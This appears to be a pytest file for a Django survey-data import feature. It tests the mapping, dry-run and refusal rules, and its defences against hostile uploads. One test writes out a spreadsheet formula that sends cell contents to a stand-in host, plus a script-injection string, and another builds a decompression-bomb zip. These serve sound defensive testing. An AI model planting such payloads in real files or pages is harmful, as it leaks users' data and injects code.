"""The import pages: upload → map → dry run → import, and what an attacker tries."""

import io
import zipfile
from datetime import date

from openpyxl import load_workbook

from orienta.families.tests.factories import make_household, make_instrument
from orienta.frontdesk.models import Visit
from orienta.imports import services
from orienta.imports.models import ImportRun, RunStatus
from orienta.imports.tests.conftest import kobo_csv
from orienta.lib.indicators import Period
from orienta.outreach.exports import activities_xlsx
from orienta.outreach.models import AwarenessSession
from orienta.testing.access import last_seq, logged


def _file(name, data):
    upload = io.BytesIO(data)
    upload.name = name
    return upload


def _upload(client, kind, name, data, site="TD-NDJ1"):
    return client.post("/imports/", {"site": site, "kind": kind, "file": _file(name, data)})


def test_upload_map_check_and_import_visits(client, users, persons):
    agent = users["agent_td"]
    client.force_login(agent)
    response = _upload(client, "visits", "Visites.csv", kobo_csv(True))
    assert response.status_code == 302
    run = ImportRun.objects.get()
    assert response["Location"] == f"/imports/{run.pk}/map/"
    page = client.get(f"/imports/{run.pk}/map/")
    assert page.status_code == 200
    assert 'value="visite/date_visite" selected' in page.text  # guessed from the XLSForm name
    mapping = {f"f:{k}": v for k, v in run.mapping.items()}
    response = client.post(f"/imports/{run.pk}/map/", mapping)
    assert response["Location"] == f"/imports/{run.pk}/check/"
    before = last_seq()
    page = client.get(f"/imports/{run.pk}/check/")
    assert page.status_code == 200
    assert "Look-alikes in the registry" in page.text and "Achta Mahamat" in page.text
    assert persons["person_td"].code in page.text
    # The look-alikes shown are a search of the registry: in the access log.
    assert logged("agent_td", before).filter(action="search").exists()
    assert Visit.objects.count() == 0  # a dry run writes nothing
    undecided = client.post(f"/imports/{run.pk}/import/")
    assert undecided.status_code == 422 and Visit.objects.count() == 0
    key = "d:Visites.csv:2"
    response = client.post(f"/imports/{run.pk}/import/", {key: str(persons["person_td"].pk)})
    assert response.status_code == 302, response.content
    assert Visit.objects.count() == 7
    assert persons["person_td"].visits.count() == 1
    detail = client.get(response["Location"])
    assert "Submissions imported" in detail.text and "(already registered)" in detail.text


def test_the_errors_page_names_line_and_column(client, users):
    client.force_login(users["agent_td"])
    _upload(client, "visits", "Visites.csv", kobo_csv())
    run = ImportRun.objects.get()
    services.import_map(run=run, mapping=run.mapping, options={}, by=users["agent_td"])
    page = client.get(f"/imports/{run.pk}/check/")
    assert "1 error: nothing will be imported" in page.text
    assert "line 7" in page.text and "visite/date_visite" in page.text
    assert "is not a date" in page.text


def test_a_line_for_a_site_of_another_country_refuses_the_whole_file(client, users, persons):
    agent = users["agent_td"]
    data = kobo_csv(True).replace(b";TD-NDJ1;2026-03-03T10:02", b";MZ-MPM1;2026-03-03T10:02")
    run = services.import_upload(
        site=persons["person_td"].site, kind="visits", name="V.csv", raw=data, by=agent
    )
    run = services.import_map(run=run, mapping=run.mapping, options={}, by=agent)
    report = services.import_check(run=run, by=agent, decisions={"V.csv:2": "new"})
    assert [(p.line, p.column) for p in report.problems] == [(4, "visite/site")]
    assert "MZ-MPM1" in report.problems[0].message
    assert not report.imported and Visit.objects.count() == 0


def test_a_person_code_of_another_country_is_unknown(users, persons):
    agent = users["agent_td"]
    csv = (
        "date;themes;resultat;person_code;_uuid\n"
        f"2026-03-02;health;informed;{persons['person_mz'].code};a1\n"
    ).encode()
    run = services.import_upload(
        site=persons["person_td"].site, kind="visits", name="V.csv", raw=csv, by=agent
    )
    run = services.import_map(run=run, mapping=run.mapping, options={}, by=agent)
    report = services.import_check(run=run, by=agent, decisions={})
    assert [(p.line, p.column) for p in report.problems] == [(2, "person_code")]
    assert not report.imported and Visit.objects.count() == 0


def test_a_file_too_large_is_refused_before_it_is_read(client, users, settings):
    settings.ORIENTA_IMPORT_MAX_BYTES = 2_000
    client.force_login(users["agent_td"])
    response = _upload(client, "visits", "Visites.csv", kobo_csv(True))
    assert response.status_code == 422
    assert "larger than" in response.text
    assert not ImportRun.objects.exists()


def test_a_zip_that_unpacks_to_gigabytes_is_refused(client, users):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("form.csv", "KEY,a\n" + "0" * (45 * 1024 * 1024))
    assert len(out.getvalue()) < 200_000
    client.force_login(users["agent_td"])
    response = _upload(client, "persons", "form.zip", out.getvalue())
    assert response.status_code == 422
    assert "too large once unpacked" in response.text


def test_too_many_lines_are_refused(client, users, monkeypatch):
    """Above the request's limits a file goes to the worker (test_background.py); above the
    worker's, it is refused (the limits lowered here to keep the test small)."""
    from orienta.imports import readers

    monkeypatch.setattr(readers, "BACKGROUND_MAX_LINES", 2_000)
    monkeypatch.setattr(readers, "BACKGROUND_MAX_SUBMISSIONS", 300)
    client.force_login(users["agent_td"])
    data = "_uuid;date\n" + "".join(f"u{n};2026-03-01\n" for n in range(2_100))
    response = _upload(client, "visits", "big.csv", data.encode())
    assert response.status_code == 422 and "more than 2,000 lines" in response.text
    data = "_uuid;date\n" + "".join(f"u{n};2026-03-01\n" for n in range(301))
    response = _upload(client, "visits", "big.csv", data.encode())
    assert response.status_code == 422 and "more than 300 submissions" in response.text
    assert not ImportRun.objects.exists()


def test_an_agent_cannot_choose_to_import_assessments(client, users):
    client.force_login(users["agent_td"])
    response = _upload(client, "assessments", "Visites.csv", kobo_csv(True))
    assert response.status_code == 422 and not ImportRun.objects.exists()


def test_a_formula_or_markup_in_a_cell_stays_text_on_the_page_and_in_exports(client, users, world):
    manager = users["manager_td"]
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")'
    data = (
        "titre;date;lieu;_uuid\n"
        f'"{hostile.replace(chr(34), chr(34) * 2)}";2026-03-02;<script>alert(1)</script>;s1\n'
    ).encode()
    client.force_login(manager)
    _upload(client, "sessions", "S.csv", data)
    run = ImportRun.objects.get()
    services.import_map(run=run, mapping=run.mapping, options={}, by=manager)
    page = client.get(f"/imports/{run.pk}/check/")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
    assert "<script>alert" not in page.text
    assert client.post(f"/imports/{run.pk}/import/").status_code == 302
    assert AwarenessSession.objects.get().title == hostile
    sheet = load_workbook(io.BytesIO(activities_xlsx(manager, Period.month_of(date(2026, 3, 2)))))
    titles = [row[4].value for row in sheet.active.iter_rows(min_row=2)]
    assert titles == ["'" + hostile]


def test_assessments_of_the_sites_households(users, world, persons):
    manager = users["manager_td"]
    make_instrument(world["td"], users["me_hq"])
    household = make_household(persons["person_td"], users["agent_td"])
    other = make_household(persons["person_mz"], users["agent_mz"])
    csv = (
        "menage;date;meals;diet;water;roof;_uuid\n"
        f"{household.code};2026-03-02;one;no;no;yes;a1\n"
        f"{other.code};2026-03-02;two;yes;yes;yes;a2\n"
        f"{household.code};2026-03-03;three;;yes;no;a3\n"
    ).encode()
    run = services.import_upload(
        site=world["sites"]["td"], kind="assessments", name="A.csv", raw=csv, by=manager
    )
    run = services.import_map(run=run, mapping=run.mapping, options={}, by=manager)
    report = services.import_check(run=run, by=manager, decisions={})
    assert [(p.line, p.column) for p in report.problems] == [(3, "menage"), (4, "diet")]
    assert not household.assessments.exists()
    fixed = csv.replace(
        f"{other.code};2026-03-02;two".encode(), f"{household.code};2026-03-01;two".encode()
    )
    fixed = fixed.replace(b"three;;yes", b"three;yes;yes")
    run = services.import_upload(
        site=world["sites"]["td"], kind="assessments", name="A.csv", raw=fixed, by=manager
    )
    run = services.import_map(run=run, mapping=run.mapping, options={}, by=manager)
    assert services.import_check(run=run, by=manager, decisions={}).imported
    assert household.assessments.count() == 3
    assert household.assessments.get(assessed_on=date(2026, 3, 2)).answers["meals"] == "one"


def test_unfinished_files_are_dropped_after_a_day(users, world, clock):
    from datetime import timedelta

    from django.utils import timezone

    agent = users["agent_td"]
    run = services.import_upload(
        site=world["sites"]["td"], kind="visits", name="V.csv", raw=kobo_csv(True), by=agent
    )
    assert services.import_runs_expire(now=timezone.now()) == 0
    assert services.import_runs_expire(now=timezone.now() + timedelta(days=2)) == 1
    run.refresh_from_db()
    assert run.content is None and run.status == RunStatus.EXPIRED
